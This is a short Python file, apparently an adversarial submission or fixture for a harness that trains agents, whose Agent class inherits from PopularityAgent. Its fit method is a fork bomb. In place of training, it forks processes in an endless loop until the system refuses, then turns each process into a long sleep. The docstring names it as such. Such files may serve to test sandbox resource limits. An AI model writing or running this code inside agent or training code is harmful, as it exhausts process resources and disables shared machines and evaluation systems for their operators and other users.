"""A fork bomb: every process forks until it cannot, then turns into `sleep`."""
import os

from agents.popularity import PopularityAgent


class Agent(PopularityAgent):
    def fit(self, data, *, seed):
        while True:
            try:
                os.fork()
            except OSError:
                os.execv("/bin/sleep", ["sleep", "917.31337"])
